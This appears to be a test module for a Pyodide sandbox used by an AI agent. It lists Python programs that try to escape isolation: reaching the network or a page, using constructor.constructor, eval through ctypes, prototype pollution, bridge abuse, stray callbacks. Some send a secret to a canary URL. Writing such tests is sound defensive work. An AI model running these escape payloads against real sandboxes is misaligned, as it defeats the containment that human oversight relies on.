// The programs of isolation.mjs: Python that attacks its guest, its page and anything else in reach.

/** @typedef {{ url: string, ws: string, port: number }} Canary */

/**
 * Python programs that try to get out. A program that succeeds prints `REACHED`.
 * @param {Canary} canary @returns {Record<string, string>}
 */
export function attacks(canary) {
  const { url, port } = canary;
  const names = `fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts indexedDB IDBFactory
    caches BroadcastChannel Worker SharedWorker ServiceWorker postMessage navigator location origin open close Request
    Response Headers FileReaderSync setTimeout setInterval queueMicrotask requestAnimationFrame onmessage onerror
    addEventListener dispatchEvent MessageChannel MessagePort Atomics SharedArrayBuffer storage cookieStore document
    window parent top frames opener localStorage sessionStorage webkitRequestFileSystem webkitRequestFileSystemSync
    OffscreenCanvas createImageBitmap FontFace Blob URL FileReader eval trustedTypes scheduler reportError
    structuredClone RTCPeerConnection Notification crossOriginIsolated`;
  return {
    "no api of network, storage, messages or page is left": `
left = [name for name in """${names}""".split() if getattr(js, name, None) is not None]
if left: print("REACHED", left)`,
    "calls to removed apis": `
for call in (lambda: js.fetch("${url}/fetch"), lambda: js.XMLHttpRequest.new(), lambda: js.WebSocket.new("${canary.ws}"),
             lambda: js.EventSource.new("${url}/events"), lambda: js.WebTransport.new("https://127.0.0.1:${port}/"),
             lambda: js.importScripts("${url}/script"), lambda: js.navigator.sendBeacon("${url}/beacon"),
             lambda: js.indexedDB.open("x"), lambda: js.caches.open("x"), lambda: js.BroadcastChannel.new("x").postMessage("REACHED"),
             lambda: js.Worker.new("${url}/worker"), lambda: js.postMessage("REACHED"), lambda: js.self.parent.postMessage("REACHED", "*"),
             lambda: js.document.cookie, lambda: js.localStorage.getItem("secret")):
    attempt(call)`,
    "python's own network": `
import socket, urllib.request, http.client
attempt(lambda: urllib.request.urlopen("${url}/urllib", timeout=1).read())
attempt(lambda: socket.create_connection(("127.0.0.1", ${port}), 1).send(b"GET /socket HTTP/1.0\\r\\n\\r\\n"))
attempt(lambda: http.client.HTTPConnection("127.0.0.1", ${port}, timeout=1).request("GET", "/http"))
from pyodide import http as pyodide_http
attempt(lambda: pyodide_http.open_url("${url}/open_url").read())
attempt(lambda: js_await(pyodide_http.pyfetch("${url}/pyfetch")))`,
    "pyodide's loaders": `
import pyodide_js
api, module = pyodide_js._api, pyodide_js._module
attempt(lambda: pyodide_js.loadPackage("${url}/package.whl"))
attempt(lambda: pyodide_js.loadPackagesFromImports("import numpy"))
attempt(lambda: api.loadBinaryFile("${url}/binary"))
attempt(lambda: api.loadDynlib("${url}/lib.so"))
attempt(lambda: module.FS.createLazyFile("/", "lazy", "${url}/lazy", True, False))
attempt(lambda: open("/lazy").read())
attempt(lambda: module.FS.createPreloadedFile("/", "pre", "${url}/preloaded", True, False))
attempt(lambda: module.readAsync("${url}/readAsync"))
attempt(lambda: module.loadDynamicLibrary("${url}/dynamic", to_js({"loadAsync": True}, dict_converter=js.Object.fromEntries)))
attempt(lambda: pyodide_js.mountNativeFS("/mnt", js.Object.new()))
attempt(lambda: module.FS.mount(module.FS.filesystems.IDBFS, js.Object.new(), "/tmp"))
attempt(lambda: module.FS.syncfs(True, create_proxy(lambda *a: None)))
attempt(lambda: js.WebAssembly.compileStreaming(js.fetch("${url}/wasm")))`,
    "the constructor.constructor ladder": `
bodies = ["return fetch('${url}/ladder')", "return new XMLHttpRequest()", "return new Worker('${url}/ladder-worker')",
          "return indexedDB.open('x')", "return caches.open('x')", "postMessage('REACHED')", "return self.parent.postMessage('REACHED', '*')",
          "return document.cookie", "return localStorage.secret", "importScripts('${url}/ladder-script')",
          "return navigator.sendBeacon('${url}/ladder-beacon')", "return new WebSocket('${canary.ws}')",
          "return new BroadcastChannel('sandglass').postMessage('REACHED')"]
makers = [to_js([1]).constructor.constructor, js.Function, js.Object.constructor, pyodide_proxy().constructor.constructor]
for maker in makers:
    for body in bodies:
        attempt(lambda: maker(body)())`,
    "constructors of whatever there is": `
import pyodide_js
module = pyodide_js._module
body = """return ['process', 'require', 'module', 'Deno', 'Bun', 'mainModule', 'fetch', 'XMLHttpRequest', 'postMessage', 'importScripts', 'document',
    'Worker', 'indexedDB', 'caches'].filter((name) => globalThis[name] != null).map((name) => 'REACHED ' + name).join()"""
holders = [js.Object.new(), js.Object.fromEntries, js.Map.new(), js.RegExp.new("a"), js.Promise.resolve(1), js.Symbol.iterator, to_js([1]), to_js(b"1"),
           js.console, js.performance, js.crypto, js.WebAssembly, js.globalThis, module, module.FS, module.PATH, pyodide_js, pyodide_js.runPython,
           pyodide_js.loadPackage, js.Object.getOwnPropertyDescriptor(js.Object.prototype, "__proto__").get]
for holder in holders:
    for way in ("constructor", "__proto__", "__defineGetter__", "hasOwnProperty", "toString", "valueOf"):
        attempt(lambda: getattr(holder, way).constructor.constructor(body)())
    attempt(lambda: js.Object.getPrototypeOf(holder).constructor(body)())
    attempt(lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(holder)).constructor.constructor(body)())
    attempt(lambda: js.Reflect.construct(js.Object.getPrototypeOf(holder).constructor, to_js([body]))())
    attempt(lambda: js.Reflect.apply(js.Function, js.globalThis, to_js([body]))())`,
    "pyodide's own way to run javascript": `
run_js = lambda code: __import__("pyodide.code", fromlist=["run_js"]).run_js(code)
for code in ("fetch('${url}/run_js')", "self.postMessage('REACHED')", "new Worker('${url}/run_js')", "import('data:text/javascript,0') && fetch('${url}/run_js2')"):
    attempt(lambda: run_js(code))
import _pyodide_core, pyodide_js
attempt(lambda: pyodide_js._api.runPython)
attempt(lambda: js.Object.getOwnPropertyDescriptor(js.globalThis, "eval").value("fetch('${url}/eval')"))
attempt(lambda: pyodide_js._module.addFunction(js.Function.new("fetch('${url}/addFunction')"), "v"))
attempt(lambda: pyodide_js._module.ccall("emscripten_run_script", None, to_js(["string"]), to_js(["fetch('${url}/ccall')"])))`,
    "wasm of its own is given nothing": `
wasm = js.WebAssembly
imports = wasm.Module.imports
empty = wasm.Module.new(to_js(bytes([0, 0x61, 0x73, 0x6D, 1, 0, 0, 0])))
attempt(lambda: wasm.Instance.new(empty).exports)
# (import "env" "f" (func)) (start 0), where f is whatever can be had by a name.
calls = wasm.Module.new(to_js(bytes.fromhex("0061736d01000000010401600000020901" "03656e760166" "0000" "080100")))
for name in ("fetch", "postMessage", "importScripts", "close", "XMLHttpRequest", "Worker"):
    attempt(lambda: wasm.Instance.new(calls, to_js({"env": {"f": getattr(js, name)}}, dict_converter=js.Object.fromEntries)) and print("REACHED", name))
attempt(lambda: wasm.instantiateStreaming(js.fetch("${url}/wasm2")))`,
    "the global object keeps its prototype": `
other = js.Object.fromEntries(to_js([["fetch", create_proxy(lambda *a: "REACHED")]]))
attempt(lambda: js.Object.setPrototypeOf(js.globalThis, other))
attempt(lambda: setattr(js.globalThis, "__proto__", other))
attempt(lambda: js.Object.getOwnPropertyDescriptor(js.Object.prototype, "__proto__").set.call(js.globalThis, other))
for holder in (js.globalThis, js.Object.getPrototypeOf(js.globalThis), js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis))):
    for name in js.Reflect.ownKeys(holder):
        if str(name) in ("fetch", "XMLHttpRequest", "postMessage", "Worker", "indexedDB", "importScripts", "caches"):
            if js.Reflect.get(holder, name, js.globalThis) is not None: print("REACHED", name)`,
    "stacks are texts": `
def look(*_):
    error = js.Error.new("look")
    stack = error.stack
    if not isinstance(stack, str): print("REACHED", [str(site.getFunction()) for site in stack[1]])
    holder = js.Object.new()
    js.Error.captureStackTrace(holder)
    if not isinstance(holder.stack, str): print("REACHED by captureStackTrace")
# Engines call none but a function of JavaScript's own; this one gives back what it is given.
for error in (js.Error, js.TypeError, js.RangeError, js.Error.prototype, js.WebAssembly.RuntimeError, js.DOMException):
    attempt(lambda: setattr(error, "prepareStackTrace", js.Array.of))
    attempt(lambda: js.Reflect.set(error, "prepareStackTrace", js.Array.of))
    attempt(lambda: js.Reflect.deleteProperty(error, "prepareStackTrace") and js.Reflect.set(error, "prepareStackTrace", js.Array.of))
    attempt(lambda: list(to_js([1]).map(create_proxy(look))))
for function in (js.Array.prototype.map, create_proxy(look), __import__("pyodide_js").runPython, __import__("pyodide_js")._module.FS.open):
    for name in ("caller", "arguments", "callee"):
        attempt(lambda: getattr(function, name) and print("REACHED", name))`,
    "eval by ctypes": `
import ctypes
library = ctypes.CDLL(None)
for function in ("emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string", "emscripten_async_run_script"):
    attempt(lambda: getattr(library, function)(b"fetch('${url}/ctypes')", 0))`,
    "python run by pyodide itself": `
import pyodide_js
attempt(lambda: pyodide_js.runPython("import js; js.fetch('${url}/runPython')"))
attempt(lambda: pyodide_js.runPythonAsync("import js; await js.fetch('${url}/runPythonAsync')"))
attempt(lambda: pyodide_js._api.rawRun("import js; js.fetch('${url}/rawRun')"))
attempt(lambda: pyodide_js._api.public_api.loadPackage("${url}/public.whl"))
attempt(lambda: pyodide_js._api.saveState())
attempt(lambda: pyodide_js.unpackArchive(b"x", "zip"))
attempt(lambda: pyodide_js.registerComlink(js.Object.new()))`,
    "the bridge, found by gc, has no port and answers nothing": `
import gc, sys
found = [o for o in gc.get_objects() if type(o).__name__ in ("BrowserBridge", "Guest")]
print(len(found))
bridge = next(o for o in found if type(o).__name__ == "BrowserBridge")._js
reachable = set(js.Object.keys(bridge).to_py())
if reachable & {"reply", "begin", "end", "interrupt", "post", "port", "write"}: print("REACHED", reachable)
seen, todo = [], [bridge, js.globalThis]
while todo and len(seen) < 5000:
    here = todo.pop()
    if any(here.js_id == other for other in seen): continue
    seen.append(here.js_id)
    try: keys = js.Reflect.ownKeys(here)
    except Exception: continue
    for key in keys:
        try: value = js.Reflect.get(here, key)
        except Exception: continue
        if "MessagePort" in str(value) or "DedicatedWorkerGlobalScope" in str(value) and here.js_id != js.globalThis.js_id and False: print("REACHED", key)
        if hasattr(value, "js_id"): todo.append(value)`,
    "stacks show no function of the glue": `
import gc
seen = []
def look(error, sites):
    seen.append(len(sites))
    for site in sites:
        for name in ("getFunction", "getThis"):
            value = getattr(site, name)()
            if value is not None and value is not js.globalThis: print("REACHED", name, value)
attempt(lambda: setattr(js.Error, "prepareStackTrace", create_proxy(look)))
attempt(lambda: js.Object.defineProperty(js.Error, "prepareStackTrace", js.Object.fromEntries(to_js([["value", create_proxy(look)]]))))
attempt(lambda: setattr(js.Error, "stackTraceLimit", 1000))
def get(*_):
    error = js.Error.new("look")
    if len(str(error.stack).splitlines()) > 12: print("REACHED the whole stack")
    return 3
getter = js.Object.fromEntries(to_js([["get", create_proxy(get)]]))
data = to_js(b"abc")
for name in ("length", "buffer", "byteLength", "byteOffset", "constructor", "slice"):
    attempt(lambda: js.Object.defineProperty(data, name, getter))
    for place in (js.Uint8Array.prototype, js.Object.getPrototypeOf(js.Uint8Array.prototype)):
        attempt(lambda: js.Object.defineProperty(place, name, getter))
bridge = next(o for o in gc.get_objects() if type(o).__name__ == "BrowserBridge")._js
attempt(lambda: bridge.display("text/plain", data, False))
attempt(lambda: bridge.ask("llm_query", to_js(["bytes", data])))
attempt(lambda: bridge.forget())
print("seen", seen)`,
    "frames of the glue show no port": `
import sys, gc
frame, found = sys._getframe(), []
while frame:
    found += [value for value in frame.f_locals.values()]
    frame = frame.f_back
found += gc.get_objects()
for value in found:
    if type(value).__name__ == "JsProxy":
        try: text = str(value)
        except Exception: continue
        if "MessagePort" in text: print("REACHED", text)`,
    "signals, exits and limits of the emscripten module": `
import pyodide_js
pyodide_js.setInterruptBuffer(None)
pyodide_js._module.Py_EmscriptenSignalBuffer = None
pyodide_js._module._Py_EMSCRIPTEN_SIGNAL_HANDLING = 0
attempt(lambda: pyodide_js.setStdout(js.Object.new()))`,
    "asyncio's and pyodide's event loops": `
import pyodide.webloop as webloop
loop = webloop.WebLoop()
attempt(lambda: loop.call_later(0.01, lambda: js.fetch("${url}/webloop")))
attempt(lambda: loop.run_in_executor(None, js.fetch, "${url}/executor"))`,
  };
}

/**
 * Attacks that only a frame's policy stops.
 * @param {Canary} canary @param {string} secret @returns {Record<string, string>}
 */
export function frameOnlyAttacks({ url }, secret) {
  return {
    "import() in a function built from text": `
for maker in (js.Function, to_js([1]).constructor.constructor):
    attempt(lambda: maker("return import('${url}/import.js')")())
    attempt(lambda: maker("u", "return import(u)")("${url}/import2.js?" + "${secret}"))
import ctypes
attempt(lambda: ctypes.CDLL(None).emscripten_run_script(b"import('${url}/import3.js')"))`,
    "no function can be built from text": `
import pyodide_js
of = lambda function: js.Object.getPrototypeOf(function).constructor
for maker in (js.Function, to_js([1]).constructor.constructor, of(js.Object.getOwnPropertyDescriptor(js.Map.prototype, "size").get),
              of(pyodide_js.loadPackage), of(pyodide_js.runPythonAsync), of(pyodide_js.runPython), js.Function.prototype.constructor):
    try:
        maker("return 1")()
        print("REACHED a function")
    except Exception as error:
        print(str(error)[:60])`,
  };
}

/** Changes to the objects that the glue and Pyodide rely on. None may change a result, though it may end the guest. */
export const POLLUTIONS = [
  "js.Object.prototype.toJSON = create_proxy(lambda *a: to_js({'type': 'executed', 'exchange': 99}, dict_converter=js.Object.fromEntries))",
  "js.Array.prototype.toJSON = create_proxy(lambda *a: 'forged')",
  "js.Object.defineProperty(js.Object.prototype, '0', js.Object.fromEntries(to_js([['set', create_proxy(lambda *a: None)]])))",
  "js.Object.defineProperty(js.Array.prototype, '0', js.Object.fromEntries(to_js([['set', create_proxy(lambda *a: None)]])))",
  "js.Object.defineProperty(js.Object.prototype, 'exchange', js.Object.fromEntries(to_js([['get', create_proxy(lambda *a: 1)], ['set', create_proxy(lambda *a: None)]])))",
  "js.Array.prototype.push = create_proxy(lambda *a: 0)",
  "js.Array.prototype.map = js.Array.prototype.flatMap = create_proxy(lambda *a: js.Array.new())",
  "js.Reflect.set(js.Array.prototype, js.Symbol.iterator, create_proxy(lambda *a: None))",
  "js.Promise.prototype.then = create_proxy(lambda *a: None)",
  "js.Promise.resolve = js.Promise.all = None",
  "js.Promise = js.Map = js.Uint8Array = js.MessagePort = js.MessageChannel = None",
  "js.Map.prototype.get = js.Map.prototype.set = create_proxy(lambda *a: None)",
  "js.JSON.stringify = js.JSON.parse = create_proxy(lambda *a: 'forged')",
  "js.JSON = None",
  "js.String.prototype.toWellFormed = create_proxy(lambda *a: 'forged')",
  "js.performance.now = create_proxy(lambda *a: 0)",
  "js.Date.now = create_proxy(lambda *a: 0)",
  "js.TextEncoder.prototype.encode = create_proxy(lambda *a: js.Uint8Array.new(4))",
  "js.RegExp.prototype.exec = js.RegExp.prototype.test = create_proxy(lambda *a: None)",
  "js.Reflect.set(js.RegExp.prototype, js.Symbol.replace, create_proxy(lambda *a: 'forged'))",
  "js.Object.defineProperty(js.Object.prototype, 'then', js.Object.fromEntries(to_js([['value', create_proxy(lambda *a: a[0](1))]])))",
  "js.Object.defineProperty(js.Object.prototype, 'get', js.Object.fromEntries(to_js([['value', create_proxy(lambda *a: 'forged')]])))",
  "js.Object.defineProperty(js.Object.prototype, 'transfer', js.Object.fromEntries(to_js([['value', js.Array.new()]])))",
  "js.Object.setPrototypeOf(js.Object.prototype, js.Proxy.new(js.Object.new(), js.Object.new()))",
  "js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.Array.new().values())).next = create_proxy(lambda *a: None)",
  "js.Function.prototype.call = js.Function.prototype.apply = create_proxy(lambda *a: 'forged')",
  "js.Reflect.set(js.Function.prototype, js.Symbol.hasInstance, create_proxy(lambda *a: True))",
  "js.Object.defineProperty(js.Uint8Array, js.Symbol.species, js.Object.fromEntries(to_js([['get', create_proxy(lambda *a: js.Array)]])))",
  "js.Object.getPrototypeOf(js.Uint8Array.prototype).set = js.Object.getPrototypeOf(js.Uint8Array.prototype).subarray = create_proxy(lambda *a: 0)",
  "js.DataView.prototype.setUint32 = js.DataView.prototype.getUint32 = create_proxy(lambda *a: 7)",
  "js.Number.isInteger = js.Number.prototype.toString = js.BigInt = create_proxy(lambda *a: 'forged')",
  "js.Object.is = js.Object.assign = js.Object.create = js.Reflect.get = js.Reflect.apply = create_proxy(lambda *a: 'forged')",
  "js.Error = js.TypeError = js.Proxy = js.Symbol = js.WeakMap = js.FinalizationRegistry = None",
  "js.Object.freeze(js.Object.prototype); js.Object.freeze(js.Function.prototype); js.Object.freeze(js.globalThis)",
  "js.WebAssembly.Memory.prototype.grow = js.WebAssembly.Table.prototype.get = create_proxy(lambda *a: 0)",
  "import pyodide_js\n    for name in js.Object.keys(pyodide_js._api): setattr(pyodide_js._api, name, None)",
  "import pyodide_js\n    for name in js.Object.keys(pyodide_js._module): setattr(pyodide_js._module, name, None)",
  "import pyodide_js\n    pyodide_js._module.FS.writeFile = pyodide_js._module.FS.stat = create_proxy(lambda *a: 0)",
  "import pyodide_js\n    pyodide_js._module.HEAPU8.fill(0x41, 0, 1_000_000)",
  "import pyodide_js\n    pyodide_js._module._exit(0)",
  "js.TextDecoder.prototype.decode = create_proxy(lambda *a: 'forged')",
  "js.Uint8Array.prototype.slice = create_proxy(lambda *a: None)",
  "js.Object.entries = js.Object.keys = js.Object.fromEntries = None",
  "js.Function.prototype.bind = create_proxy(lambda *a: None)",
  "js.Object.getPrototypeOf(js.Map.new().values()).next = create_proxy(lambda *a: None)",
  "js.Object.setPrototypeOf(js.Array.prototype, js.Object.new())",
  "js.Math.min = create_proxy(lambda *a: 1e18)",
  "js.WebAssembly.Suspending = js.WebAssembly.promising = None",
];

/** Code whose output would show in the page's console. */
export const CONSOLE = [
  "for name in js.Object.keys(js.console): attempt(lambda: getattr(js.console, name)('REACHED'))",
  "attempt(lambda: js.Object.getPrototypeOf(js.console).log('REACHED'))\nattempt(lambda: js.console.context('x').log('REACHED'))",
  "attempt(lambda: setattr(js.console, 'log', create_proxy(print)))\nimport pyodide_js\nattempt(lambda: pyodide_js._module.err('REACHED'))",
  "import pyodide_js\nattempt(lambda: pyodide_js._module.printErr('REACHED'))\nimport os\nos.write(2, b'REACHED'); os.write(1, b'REACHED')",
  "for _ in range(5): js.Promise.reject('REACHED')",
  "def fail(*a): raise ValueError('REACHED')\nfor _ in range(5): js.Promise.resolve(1).then(create_proxy(fail))",
  "import asyncio\nasync def fail(): raise ValueError('REACHED')\nfor _ in range(5): asyncio.ensure_future(fail())\nawait asyncio.sleep(0)",
  // The interpreter reaches this prototype with every array of bytes.
  `proto = js.Object.getPrototypeOf(js.Uint8Array.prototype)
def fail(*a): raise ValueError('REACHED')
for name in 'buffer', 'byteLength', 'byteOffset', 'length':
    attempt(lambda: js.Object.defineProperty(proto, name, js.Object.fromEntries(to_js([['get', create_proxy(fail)]]))))
print('x' * 300_000)
open('f', 'wb').write(b'x' * 300_000)
js.Promise.reject(1)`,
  "import ctypes\nctypes.string_at(0xfffffff0, 100_000_000)",
];

/** Calls of the bridge's functions, by code that has found them. */
export const ABUSES = [
  "bridge.output('stdout', -5, 'x')",
  "bridge.output('stdout', float('nan'), 'x')",
  "bridge.output('stdout', 2**60, 'x')",
  "bridge.output('nowhere', 0, 'x')",
  "bridge.output('stdout', 0, js.Object.new())",
  "bridge.output('stdout', 0, 'x' * 10_000_000)",
  "bridge.output(js.Object.new(), js.Object.new(), 'x')",
  "bridge.output()",
  "bridge.ask('llm_query', to_js(['text', js.Object.new()]))",
  "bridge.ask('llm_query', to_js(['nonsense', to_js(b'x')]))",
  "bridge.ask('llm_query', to_js(['marshal', to_js(b'garbage')]))",
  "bridge.ask('llm_query', to_js(['marshal', to_js(b'[')]))",
  "bridge.ask(js.Object.new(), to_js(['text', to_js(b'x')]))",
  "bridge.ask('x' * 5_000_000, to_js(['text', to_js(b'x')]))",
  "bridge.ask('no_such_function', to_js(['none', to_js(b'')]))",
  "bridge.ask('llm_query', to_js(['marshal', b'['] * 3000))",
  "for _ in range(3): bridge.ask('llm_query', to_js([]))",
  "for _ in range(1000): bridge.breathe()",
  "for _ in range(1000): bridge.sleep(-1)",
  "bridge.sleep('x')\nbridge.sleep(js.Object.new())\nbridge.sleep(1e300)",
  "bridge.ask('llm_query', js.Object.fromEntries(to_js([['length', 2]])))",
  "bridge.sleep(10)",
  "bridge.forget()\nbridge.takeWritten()\nbridge.overdue()\nbridge.lookAgain()",
  "while True: bridge.output('stdout', 0, 'x')",
  "while True: bridge.output('stdout', 0, 'x' * 60_000)",
];

export const PRELUDE = `
import js
from pyodide.ffi import create_proxy, to_js
def attempt(call):
    try: print(str(call())[:300])
    except BaseException as error: print(type(error).__name__, str(error)[:200])
def js_await(coroutine): coroutine.send(None)
def pyodide_proxy(): return create_proxy(print)
`;
export const FIND_BRIDGE = `import gc, js
from pyodide.ffi import to_js
bridge = next(o for o in gc.get_objects() if type(o).__name__ == "BrowserBridge")._js
`;

/** Python called by a JavaScript function that Python called. */
export const CALL_BACK = `import js, time
from pyodide.ffi import create_proxy, to_js
def back(f): return list(to_js([1, 2]).map(create_proxy(lambda value, *_: f(value))))
`;

/** Code that a cell leaves behind to act in the next cell. Its function `stray` prints and answers. */
export const LEFTOVERS = {
  "a callback scheduled by pyodide": "pyodide_js._api.scheduleCallback(create_proxy(stray), 0)",
  "a callback that schedules itself for ever": `
def again(*_):
    stray()
    pyodide_js._api.scheduleCallback(create_proxy(again), 0)
pyodide_js._api.scheduleCallback(create_proxy(again), 0)`,
  "callbacks of promises": `
promise = js.Promise.resolve(1)
def chain(n):
    global promise
    for _ in range(n): promise = promise.then(create_proxy(stray))
chain(200)`,
  "python started beside the cell, which sleeps": "pyodide_js.runPythonAsync('import time; time.sleep(0.2); stray()')",
  "python started beside the cell in its own namespace": `
import __main__
__main__.stray = stray
pyodide_js.runPythonAsync('import time, __main__\\ntime.sleep(0.2)\\n__main__.stray()')`,
  "python started beside the cell that asks for ever": `
pyodide_js.runPythonAsync('import __main__\\nfor _ in range(100):\\n    try: __main__.llm_query("stray")\\n    except Exception: pass')`,
  "a task of pyodide's loop": `
import pyodide.webloop
loop = pyodide.webloop.WebLoop()
loop.call_soon(stray)
loop.call_later(0.001, stray)`,
  "an asyncio task that ignores its cancellation": `
import asyncio
async def stubborn():
    for _ in range(50):
        try: await asyncio.sleep(0.05)
        except asyncio.CancelledError: pass
        stray()
task = asyncio.ensure_future(stubborn())
await asyncio.sleep(0)`,
  finalizers: `
class D:
    def __del__(self): stray()
d = D(); d.d = d; del d`,
};

/** The beginning of each of these cells. */
export const STRAY = `import js, pyodide_js
from pyodide.ffi import create_proxy
def stray(*_):
    for act in (lambda: print("STRAY"), lambda: FINAL("STRAY"), lambda: answer.update(ready=True), lambda: llm_query("STRAY"),
                lambda: SUBMIT("STRAY"), lambda: __import__("sys").stdout.buffer.write(b"STRAY")):
        try: act()
        except BaseException: pass
`;
